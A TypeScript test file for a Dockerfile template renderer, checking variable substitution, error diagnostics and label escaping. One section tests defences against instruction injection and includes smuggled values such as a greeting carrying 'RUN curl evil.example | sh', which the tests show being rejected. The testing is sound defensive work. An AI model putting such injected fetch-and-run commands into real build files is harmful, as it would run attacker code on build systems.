import { describe, expect, it } from 'vitest';
import { EXAMPLE, load, yaml } from '../../test/helpers.js';
import type { Catalog } from '../catalog/model.js';
import { formatDiagnostic } from '../diagnostics.js';
import { InvalidInputError } from '../errors.js';
import { type RenderInputs, renderNodes } from './render.js';

const PARTIALS = [
  { file: 'images/_partials/base-image.hbs', text: 'ARG BASE_IMAGE={{baseImage}}\n' },
  {
    file: 'images/_partials/labels.hbs',
    text: 'LABEL {{#each labels}}{{key}}={{labelValue this}}{{#unless @last}} \\\n      {{/unless}}{{/each}}\n',
  },
];

function inputs(templates: Record<string, string>): RenderInputs {
  return { templates: new Map(Object.entries(templates)), partials: PARTIALS };
}

const SIMPLE = yaml`
  registry: r.example/acme
  labels: { prefix: io.acme, vendor: Acme }
  images:
    base:
      kind: os
      versions: { "13": { suite: trixie } }
    app:
      kind: app
      from: base:13
      versions: { "1.0.0": { greeting: hello } }
`;
const TEMPLATES = {
  'images/base/Dockerfile.hbs': 'FROM scratch\nENV SUITE={{vars.suite}}\n{{> labels}}\nUSER 10001\n',
  'images/app/Dockerfile.hbs':
    '{{> base-image}}\nFROM ${BASE_IMAGE}\nENV GREETING={{vars.greeting}}\n{{> labels}}\nUSER 10001\n',
};

function renderErrors(text: string, templates: Record<string, string>): string[] {
  const loaded = load(text);
  try {
    renderNodes(loaded, loaded.graph.order, inputs(templates));
  } catch (error) {
    if (error instanceof InvalidInputError) return error.diagnostics.map(formatDiagnostic);
    throw error;
  }
  throw new Error('expected rendering to fail');
}

describe('renderNodes', () => {
  it('renders each node with its variables, parent and labels', () => {
    const loaded = load(SIMPLE);
    const [base, app] = renderNodes(loaded, loaded.graph.order, inputs(TEMPLATES));
    expect(base?.dockerfile).toContain('ENV SUITE=trixie\n');
    expect(base?.dockerfile).not.toContain('base.name');
    expect(app?.outDir).toBe('app/1.0.0');
    expect(app?.buildArgs).toEqual({ BASE_IMAGE: 'r.example/acme/base:13' });
    expect(app?.dockerfile).toContain(
      'ARG BASE_IMAGE=r.example/acme/base:13\nFROM ${BASE_IMAGE}\nENV GREETING=hello\n',
    );
    expect(app?.dockerfile).toContain('org.opencontainers.image.base.digest="${BASE_DIGEST}"');
    expect(app?.dockerfile).toContain('org.opencontainers.image.vendor="Acme"');
    expect(app?.dockerfile).toContain('io.acme.component.base="13"');
  });

  it('is deterministic: the same inputs render byte-identical output', () => {
    const once = renderNodes(load(SIMPLE), load(SIMPLE).graph.order, inputs(TEMPLATES));
    const twice = renderNodes(load(SIMPLE), load(SIMPLE).graph.order, inputs(TEMPLATES));
    expect(twice.map((n) => n.dockerfile)).toEqual(once.map((n) => n.dockerfile));
  });

  it('fails on an unknown variable with the template file, line and column', () => {
    const templates = { ...TEMPLATES, 'images/app/Dockerfile.hbs': 'FROM scratch\nENV X={{vars.greting}}\n' };
    expect(renderErrors(SIMPLE, templates)).toEqual([
      'images/app/Dockerfile.hbs:2:9: unknown variable "vars.greting" while rendering app:1.0.0; did you mean "vars.greeting"? (define it under the image, version or variant in catalog.yaml (template variables are under vars.), or fix the name)',
    ]);
  });

  it('attributes errors inside partials to the partial file', () => {
    const partials = [{ file: 'images/_partials/broken.hbs', text: 'one\nRUN {{nothing.here}}\n' }];
    const loaded = load(SIMPLE);
    const templates = { ...TEMPLATES, 'images/base/Dockerfile.hbs': 'FROM scratch\n{{> broken}}\n' };
    const render = (): unknown =>
      renderNodes(loaded, [loaded.graph.node('base:13')], { ...inputs(templates), partials });
    expect(render).toThrow(InvalidInputError);
    try {
      render();
    } catch (error) {
      expect(formatDiagnostic((error as InvalidInputError).diagnostics[0] ?? ({} as never))).toMatch(
        /^images\/_partials\/broken\.hbs:2:7: unknown variable "nothing\.here" while rendering base:13/,
      );
    }
  });

  it('reports unknown partials and syntax errors', () => {
    const unknown = { ...TEMPLATES, 'images/base/Dockerfile.hbs': 'FROM scratch\n\n{{> nope}}\n' };
    expect(renderErrors(SIMPLE, unknown)[0]).toMatch(/^images\/base\/Dockerfile\.hbs:3:1: unknown partial "nope"/);
    const syntax = { ...TEMPLATES, 'images/base/Dockerfile.hbs': 'FROM scratch\n{{#if vars.suite}}\n' };
    expect(renderErrors(SIMPLE, syntax)[0]).toMatch(
      /^images\/base\/Dockerfile\.hbs:3:1: template syntax: Expecting .*got 'EOF'/,
    );
  });

  it('reports a missing template at the image, pointing at the catalog', () => {
    const { 'images/app/Dockerfile.hbs': _, ...templates } = TEMPLATES;
    expect(renderErrors(SIMPLE, templates)).toEqual([
      'catalog.yaml: images.app.template: template "images/app/Dockerfile.hbs" of image "app" does not exist (create it, or point "template:" at an existing file)',
    ]);
  });
});

describe('catalog values cannot inject Dockerfile instructions', () => {
  // loadCatalog refuses these values (validation.test.ts); rendering refuses them again, since the
  // catalog it is given may come from elsewhere (a snapshot, an embedder).
  const unsafeCatalog = (change: (catalog: Catalog) => Catalog) => {
    const loaded = load(SIMPLE);
    return { ...loaded, catalog: change(loaded.catalog) };
  };
  const renderErrorsOf = (loaded: ReturnType<typeof unsafeCatalog>) => {
    try {
      renderNodes(loaded, loaded.graph.order, inputs(TEMPLATES));
    } catch (error) {
      if (error instanceof InvalidInputError) return error.diagnostics.map(formatDiagnostic);
      throw error;
    }
    throw new Error('expected rendering to fail');
  };
  const withGreeting = (greeting: string) =>
    unsafeCatalog((catalog) => ({
      ...catalog,
      images: catalog.images.map((image) => ({
        ...image,
        versions: image.versions.map((v) => ({
          ...v,
          vars: { ...v.vars, ...(image.name === 'app' ? { greeting } : {}) },
        })),
      })),
    }));

  it('rejects a newline in a variable, with its position in the catalog', () => {
    expect(renderErrorsOf(withGreeting('hello\nRUN curl evil.example | sh'))).toEqual([
      'catalog.yaml:10:38: images.app.versions.1.0.0.greeting: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
    ]);
  });

  it('rejects a trailing backslash, which would continue into the next line', () => {
    expect(renderErrorsOf(withGreeting('hello\\'))[0]).toMatch(/greeting: value ends with a backslash/);
  });

  it('rejects line breaks in label settings and the registry too', () => {
    const loaded = unsafeCatalog((catalog) => ({
      ...catalog,
      registry: 'r.example/acme\nRUN x',
      labels: { ...catalog.labels, vendor: 'Acme\rLABEL x=y' },
    }));
    expect(renderErrorsOf(loaded)).toEqual([
      expect.stringMatching(/^catalog\.yaml:1:11: registry: value contains a line break/),
      expect.stringMatching(/^catalog\.yaml:\d+:\d+: labels\.vendor: value contains a line break/),
    ]);
  });

  it('escapes quotes, backslashes and $ in label values, so they stay literal', () => {
    const loaded = load(SIMPLE.replace('vendor: Acme', `vendor: 'Acme "quoted" \\ $HOME'`));
    const [base] = renderNodes(loaded, [loaded.graph.node('base:13')], inputs(TEMPLATES));
    expect(base?.dockerfile).toContain('org.opencontainers.image.vendor="Acme \\"quoted\\" \\\\ \\$HOME"');
  });

  it('renders the example catalog with one node per id', () => {
    const loaded = load(EXAMPLE);
    const template = '{{#if baseImage}}{{> base-image}}\nFROM ${BASE_IMAGE}{{else}}FROM scratch{{/if}}\n{{> labels}}\n';
    const templates = Object.fromEntries(loaded.catalog.images.map((i) => [i.template, template]));
    const rendered = renderNodes(loaded, loaded.graph.order, inputs(templates));
    expect(rendered.map((r) => r.outDir)).toEqual([
      'debian/13',
      'pyenv/2.5.4',
      'python/3.11.2',
      'python/3.13.5',
      'flask/3.1.1-python3.13',
      'flask/3.1.1-python3.11',
      'hello/1.0.0',
    ]);
  });

  it('places context templates relative to the context, however the context is written', () => {
    for (const context of ['./', '.', 'ctx', './ctx/', 'ctx//', 'other/../ctx']) {
      const folder = context.replace(/^(\.\/?)$/, '').includes('ctx') ? 'ctx/' : '';
      const loaded = load(SIMPLE.replace('kind: os', `kind: os\n    context: "${context}"`));
      const templates = {
        ...inputs(TEMPLATES),
        contextTemplates: new Map([[context, [{ file: `${folder}etc/app.conf.hbs`, text: 'suite={{vars.suite}}\n' }]]]),
      };
      const [base] = renderNodes(loaded, [loaded.graph.node('base:13')], templates);
      expect({ context, files: base?.files }).toEqual({
        context,
        files: [{ path: 'etc/app.conf', text: 'suite=trixie\n' }],
      });
    }
  });
});
